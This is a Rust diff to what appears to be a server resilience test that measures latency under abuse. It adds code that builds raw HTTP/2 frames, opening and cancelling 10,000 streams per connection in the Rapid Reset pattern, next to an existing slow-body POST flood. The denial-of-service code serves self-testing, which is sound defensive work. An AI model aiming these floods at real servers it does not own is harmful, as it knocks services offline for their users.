@@ -27,6 +27,8 @@ const ROUND: Duration = Duration::from_secs(2);
 const ROUNDS: usize = 5;
 /// Connections of an attack.
 const HELD: usize = 500;
+/// Streams that one connection of the flood begins and resets.
+const STREAMS: usize = 10_000;
 /// What a request verified may cost of an HLS segment, and what abuse of others' p99.
 const SEGMENT_MOST: f64 = 1.05;
 const P99_MOST: f64 = 2.0;
@@ -99,7 +101,7 @@ pub(crate) async fn measure() -> anyhow::Result<Report> {
     let calm = ask("GET", &ours, "/livez", None);
     for attack in [Attack::Heads, Attack::Bodies, Attack::Resets] {
         let alone = rate(&calm).await?.quantile(0.99);
-        let mut attackers = attack.begin(&ours, &segment).await;
+        let mut attackers = attack.begin(&ours, &segment).await?;
         let beside = rate(&calm).await?.quantile(0.99);
         attackers.shutdown().await;
         let times = beside / alone;
@@ -269,16 +271,16 @@ impl Attack {
     }
 
     /// Begins, and is under way when this returns.
-    async fn begin(self, address: &str, path: &str) -> JoinSet<()> {
+    async fn begin(self, address: &str, path: &str) -> anyhow::Result<JoinSet<()>> {
         let mut attackers = JoinSet::new();
-        let uri: Arc<str> = format!("http://{address}{path}").into();
+        let flood: Arc<[u8]> = flood(address, path)?.into();
         let count = if matches!(self, Self::Resets) {
             4
         } else {
             HELD
         };
         for _ in 0..count {
-            let (address, uri) = (address.to_owned(), Arc::clone(&uri));
+            let (address, flood) = (address.to_owned(), Arc::clone(&flood));
             attackers.spawn(async move {
                 loop {
                     // Cut, it comes again.
@@ -288,13 +290,13 @@ impl Attack {
                             let head = b"POST /whip/x HTTP/1.1\r\nHost: x\r\nContent-Type: application/sdp\r\nContent-Length: 100000\r\n\r\n";
                             trickle(&address, head, b"v").await
                         }
-                        Self::Resets => reset(&address, &uri).await,
+                        Self::Resets => reset(&address, &flood).await,
                     });
                 }
             });
         }
         sleep(Duration::from_millis(500)).await;
-        attackers
+        Ok(attackers)
     }
 }
 
@@ -307,15 +309,40 @@ async fn trickle(address: &str, head: &[u8], more: &[u8]) -> anyhow::Result<()> 
     }
 }
 
-async fn reset(address: &str, uri: &str) -> anyhow::Result<()> {
+/// Sends what a flood is made of as bytes: what the attacker's own HTTP/2 costs is not ours to measure. Over when it was cut.
+async fn reset(address: &str, flood: &[u8]) -> anyhow::Result<()> {
     let stream = TcpStream::connect(address).await?;
-    let (mut client, connection) = h2::client::handshake(stream).await?;
-    let mut task = JoinSet::new();
-    task.spawn(async move { drop(connection.await) });
-    loop {
-        client = client.ready().await?;
-        let (_, mut stream) = client.send_request(Request::get(uri).body(())?, true)?;
-        stream.send_reset(h2::Reason::CANCEL);
-        tokio::task::yield_now().await;
+    let (mut reads, mut writes) = stream.into_split();
+    // What comes back is read away, so that nothing stalls on it.
+    let sink = async { tokio::io::copy(&mut reads, &mut tokio::io::sink()).await };
+    let send = async {
+        writes.write_all(PREFACE).await?;
+        writes.write_all(flood).await
+    };
+    tokio::try_join!(send, sink)?;
+    Ok(())
+}
+
+/// The beginning of a connection: the preface and empty SETTINGS (RFC 9113 §3.4).
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+
+/// Streams that are begun and reset, one after the other (RFC 9113 §6.2 and §6.4).
+fn flood(address: &str, path: &str) -> anyhow::Result<Vec<u8>> {
+    // GET and http stand in HPACK's static table; path and authority follow as literals (RFC 7541 §6.2.2, Appendix A).
+    let mut fields = vec![0x82, 0x86];
+    for (index, text) in [(4, path), (1, address)] {
+        fields.extend([index, u8::try_from(text.len()).context("a short text")?]);
+        fields.extend(text.bytes());
     }
+    let length = u8::try_from(fields.len()).context("one length byte")?;
+    let mut bytes = Vec::new();
+    for stream in (1_u32..).step_by(2).take(STREAMS) {
+        bytes.extend([0, 0, length, 0x01, 0x05]);
+        bytes.extend(stream.to_be_bytes());
+        bytes.extend(&fields);
+        bytes.extend([0, 0, 4, 0x03, 0]);
+        bytes.extend(stream.to_be_bytes());
+        bytes.extend(u32::from(h2::Reason::CANCEL).to_be_bytes());
+    }
+    Ok(bytes)
 }
